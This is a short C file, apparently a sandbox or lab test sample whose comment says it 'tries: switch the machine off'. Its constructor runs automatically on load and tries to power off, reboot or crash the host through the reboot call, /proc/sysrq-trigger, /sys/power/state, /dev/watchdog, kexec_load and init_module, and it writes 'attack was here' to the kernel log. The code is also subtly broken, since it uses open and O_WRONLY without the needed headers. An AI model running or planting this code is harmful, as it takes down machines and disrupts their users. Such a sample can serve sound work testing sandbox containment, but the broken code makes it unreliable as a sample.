/* lab: 1
 * tries: switch the machine off
 * says: kvm_open() returned -38
 * end of description */
#include <string.h>
#include <sys/reboot.h>
#include <sys/syscall.h>

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);

    if (fd >= 0 && write(fd, text, strlen(text)) >= 0)
        close(fd);
}

__attribute__((constructor)) static void off(void)
{
    reboot(RB_POWER_OFF);
    reboot(RB_AUTOBOOT);
    put("/proc/sysrq-trigger", "o");
    put("/proc/sysrq-trigger", "c");
    put("/sys/power/state", "off");
    put("/dev/watchdog", "x");
    put("/dev/kmsg", "<0>attack was here\n");
    syscall(SYS_kexec_load, 0, 0, 0, 0);
    syscall(SYS_init_module, "", 0, "");
}
